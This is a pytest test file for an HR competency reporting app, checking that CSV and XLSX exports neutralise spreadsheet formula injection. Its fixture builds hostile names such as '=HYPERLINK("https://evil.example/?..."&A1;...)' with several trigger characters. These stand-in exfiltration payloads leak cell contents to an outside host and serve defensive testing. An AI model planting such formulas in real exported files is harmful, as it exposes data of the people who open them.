"""HR report exports: names authored by others never become live spreadsheet formulas."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from competencies import exports, providers
from competencies.models import Competency
from competencies.providers import Offer
from competencies.reporting import ReportFilters, report_build
from competencies.services import role_target_set
from lms.accounts.models import OrgUnitResponsibility
from lms.accounts.services import responsibility_grant

TRIGGERS = ["=", "+", "-", "@", "\t=", "\r="]


def hostile(kind, trigger):
    return f'{trigger}HYPERLINK("https://evil.example/?{kind}"&A1;"{kind}")'


@pytest.fixture
def hostile_report(framework, make_unit, make_role, make_user, settings, monkeypatch):
    """A report whose unit, competency, job role and course names each begin with a trigger."""
    settings.QD_MIN_GROUP_SIZE = 1  # every cell shown, so every name reaches the files
    agency = make_unit(hostile("agency", "="), kind="agency")
    roles = [make_role(code=f"role-{n}", name=hostile("role", t)) for n, t in enumerate(TRIGGERS)]
    competencies = []
    for n, trigger in enumerate(TRIGGERS):
        competency = Competency.objects.create(
            framework=framework,
            kind=Competency.Kind.COMPETENCY,
            code=f"X.{n}",
            uri=f"urn:test:x:{n}",
            name=hostile("competency", trigger),
        )
        competencies.append(competency)
        role_target_set(job_role=roles[n], competency=competency, rank=3)
        unit = make_unit(hostile("unit", trigger), parent=agency)
        make_user(org_unit=unit, job_roles=[roles[n]])
    offers = [
        Offer(
            key=f"course-{n}",
            title=hostile("course", trigger),
            url=f"/learn/course-{n}/",
            develops=((competencies[n].pk, 5),),
        )
        for n, trigger in enumerate(TRIGGERS)
    ]
    monkeypatch.setitem(providers._PROVIDERS, "hostile-test", lambda: offers)
    hr = make_user(groups=("Learner", "HR"), org_unit=agency)
    responsibility_grant(user=hr, org_unit=agency, kind=OrgUnitResponsibility.Kind.HR)
    report = report_build(user=hr, filters=ReportFilters(), with_trend=False)
    kinds = ("unit", "competency", "role", "course")
    names = {hostile(kind, trigger) for kind in kinds for trigger in TRIGGERS}
    return report, names | {hostile("agency", "=")}


def test_csv_export_writes_every_hostile_name_inert(hostile_report):
    report, names = hostile_report

    text = exports.to_csv(report).decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    # CR and tab survive the CSV quoting; every hostile name is there once quoted, never bare.
    written = {cell[1:] for cell in cells if cell.startswith("'")}
    assert {n for n in names if "agency" not in n} <= written
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_xlsx_export_stores_hostile_names_as_text_and_figures_as_numbers(hostile_report):
    report, names = hostile_report

    workbook = load_workbook(io.BytesIO(exports.to_xlsx(report)))

    seen = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    if cell.value in names:
                        assert cell.quotePrefix, cell.value
                        seen.add(cell.value)
                elif cell.value is not None:
                    assert cell.data_type == "n", (sheet.title, cell.coordinate, cell.value)
    assert {n for n in names if "agency" not in n} <= seen
    heat = workbook.worksheets[0]
    people = [row[3].value for row in heat.iter_rows(min_row=2)]
    assert people and all(isinstance(value, int) for value in people)
    average_gaps = [row[5].value for row in heat.iter_rows(min_row=2)]
    assert 3 in average_gaps  # each person is three levels below their role's target


def test_csv_export_has_decimal_commas_for_german_excel(hostile_report):
    report, _names = hostile_report

    text = exports.to_csv(report).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    heat = [row for row in rows if len(row) == 7 and row[3].isdigit() and row[3] != "0"]
    assert heat and all(row[5] == "3,0" for row in heat), heat
    assert not any("." in cell and cell.replace(".", "").isdigit() for row in rows for cell in row)


def test_xlsx_trend_months_are_dates_and_shares_numbers(hostile_report):
    report, _names = hostile_report
    hr = OrgUnitResponsibility.objects.get().user
    report = report_build(user=hr, filters=ReportFilters(), months=3)

    workbook = load_workbook(io.BytesIO(exports.to_xlsx(report)))

    trend = workbook.worksheets[3]
    months = [row[0].value for row in trend.iter_rows(min_row=2)]
    assert len(months) == 3 and all(isinstance(m, dt.datetime) for m in months)
    assert all(row[0].is_date for row in trend.iter_rows(min_row=2))
    figures = [row[2].value for row in trend.iter_rows(min_row=2)]
    assert all(isinstance(value, int) for value in figures)
